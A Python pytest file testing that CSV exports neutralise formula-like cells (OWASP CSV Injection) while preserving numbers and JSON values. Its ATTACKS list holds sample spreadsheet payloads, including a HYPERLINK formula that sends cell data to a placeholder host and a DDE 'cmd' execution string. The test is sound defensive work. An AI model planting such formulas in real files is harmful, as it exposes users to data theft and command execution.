"""CSV exports a spreadsheet opens safely: text that starts like a formula is neutralised with a
leading `'` (OWASP "CSV Injection") unless `_csv=raw`, numbers stay numbers, lists and objects
are JSON, the media type says UTF-8. Files are read back with Python's csv module."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from typing import Any

import hypothesis.strategies as st
import pytest
from hypothesis import given

from core.settings import Settings
from core.store import SpeedStore
from serving.exports import csv_cell, csv_text
from tests.test_api import api_settings, get, loaded, own_store
from tests.test_cohort import condition, observation, put

__all__ = ["api_settings", "loaded", "own_store"]

# OWASP's list, written out here rather than imported from the code under test.
FORMULA = ("=", "+", "-", "@", "\t", "\r")
ATTACKS = [
    '=HYPERLINK("http://x.example/?q="&A2,"details")',
    "+1+1",
    "-5",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
HARMLESS = ["Diabetes", "'quoted already", 'a,b "c"\nd', "Ünïcödé ✓ 糖尿病", " =leading space"]


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


async def test_view_csv_neutralises_formulas_and_keeps_numbers(
    api_settings: Settings, loaded: SpeedStore
) -> None:
    texts = ATTACKS + HARMLESS
    for n, text in enumerate(texts):
        await put(loaded, condition(f"x{n:02d}", "p01", code=f"k{n}", text=text))
    await put(loaded, observation("o2", "p02", value=-5))
    await put(loaded, observation("o3", "p03", value=-0.25))

    r = await get(api_settings, "/views/condition_simple/rows?_format=csv&patient_id=p01")
    assert r.status_code == 200
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    got = {row["id"]: row["code_text"] for row in read_csv(r.content.decode("utf-8"))}
    for n, text in enumerate(texts):
        expected = "'" + text if text[:1] in FORMULA else text
        assert got[f"x{n:02d}"] == expected, text
    assert got["x00"] == "'" + ATTACKS[0] and got["x02"] == "'-5"

    raw = await get(
        api_settings, "/views/condition_simple/rows?_format=csv&patient_id=p01&_csv=raw"
    )
    got = {row["id"]: row["code_text"] for row in read_csv(raw.content.decode("utf-8"))}
    assert [got[f"x{n:02d}"] for n in range(len(texts))] == texts

    r = await get(api_settings, "/views/observation_simple/rows?_format=csv&status=final")
    values = {row["id"]: row["value"] for row in read_csv(r.text)}
    assert values["o2"] == "-5" and values["o3"] == "-0.25"  # numbers are never neutralised
    assert values["o1"] == "7.5"


@pytest.mark.parametrize("value", ["", "unsafe", "RAW", "true"])
async def test_unknown_csv_mode_is_400_naming_it(
    api_settings: Settings, loaded: SpeedStore, value: str
) -> None:
    r = await get(api_settings, f"/views/condition_simple/rows?_format=csv&_csv={value}")
    assert r.status_code == 400
    assert [i["expression"] for i in r.json()["issue"]] == [["_csv"]]


def test_lists_and_objects_are_json_never_a_python_repr() -> None:
    rows: list[dict[str, Any]] = [
        {"id": "a", "tags": ["x", "=y"], "extra": {"k": [1, None, True]}, "n": Decimal("-1.50")},
        {"id": "b", "tags": [], "extra": {}, "n": None},
    ]
    table = read_csv(csv_text(["id", "tags", "extra", "n"], rows))
    assert json.loads(table[0]["tags"]) == ["x", "=y"]
    assert json.loads(table[0]["extra"]) == {"k": [1, None, True]}
    assert table[0]["n"] == "-1.50"
    assert json.loads(table[1]["tags"]) == [] and json.loads(table[1]["extra"]) == {}
    assert table[1]["n"] == ""
    assert "'" not in table[0]["tags"] and "True" not in table[0]["extra"]


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=8,
)


@given(value=st.text() | st.integers() | st.booleans() | st.none() | json_values, raw=st.booleans())
def test_any_cell_reads_back_as_the_value_or_its_neutralised_text(value: Any, raw: bool) -> None:
    table = read_csv(csv_text(["c"], [{"c": value}], raw=raw))
    cell = table[0]["c"] if table else ""
    if value is None:
        assert cell == ""
    elif isinstance(value, bool):
        assert cell == ("true" if value else "false")
    elif isinstance(value, int):
        assert int(cell) == value
    elif isinstance(value, str):
        # csv's reader turns a lone "\r" line ending inside a quoted cell back as written.
        neutralised = not raw and value[:1] in FORMULA
        assert cell == ("'" + value if neutralised else value)
    else:
        assert json.loads(cell) == value
    if not raw and isinstance(value, str | list | dict):
        assert cell[:1] not in FORMULA


def test_cell_rule_by_type() -> None:
    assert csv_cell(-5) == "-5" and csv_cell(-5.5) == "-5.5" and csv_cell(Decimal("-5")) == "-5"
    assert csv_cell("-5") == "'-5" and csv_cell("-5", raw=True) == "-5"
    assert csv_cell(False) == "false" and csv_cell(None) == ""
